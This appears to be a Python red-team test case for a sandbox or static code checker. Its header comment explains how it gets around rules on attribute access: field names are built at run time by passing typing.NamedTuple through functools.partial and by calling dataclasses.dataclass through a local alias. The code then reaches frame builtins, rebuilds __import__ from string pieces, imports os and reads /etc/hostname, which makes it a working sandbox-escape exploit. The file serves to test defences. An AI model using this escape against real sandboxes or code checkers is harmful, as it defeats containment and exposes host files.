# family: red team, round 8 (dataclass_value_runtime_namedtuple_fields)
# getattr(obj, f.name) is accepted for f in dataclasses.fields(...). The field names are assumed to come from
# class bodies, but typing.NamedTuple reached through functools.partial takes run-time field names (the
# named-tuple field rule only fires on a direct NamedTuple(...) call), and dataclasses.dataclass held in a
# local name turns that class into a dataclass (the "decorate a class statement only" rule looks at the
# callee's name). So fields() yields any public name: tb_frame, f_builtins...
import dataclasses
import functools
import typing


class Catch:
    def __enter__(self):
        return self

    def __exit__(self, et, ev, tb):
        self.tb = tb
        return True


def read(obj, name):
    maker = functools.partial(typing.NamedTuple, "Spec")
    shape = maker([(name, int)])
    decorate = dataclasses.dataclass
    spec = decorate(shape)
    for f in dataclasses.fields(spec):
        return getattr(obj, f.name)


def run():
    c = Catch()
    with c:
        1 / 0
    frame = read(c.tb, "tb_frame")
    b = read(frame, "f_builtins")
    u = "_"
    osmod = b[u + u + "import" + u + u]("os")
    return type(osmod).__name__, osmod.getpid(), b["open"]("/etc/hostname").read().strip()


print(run())
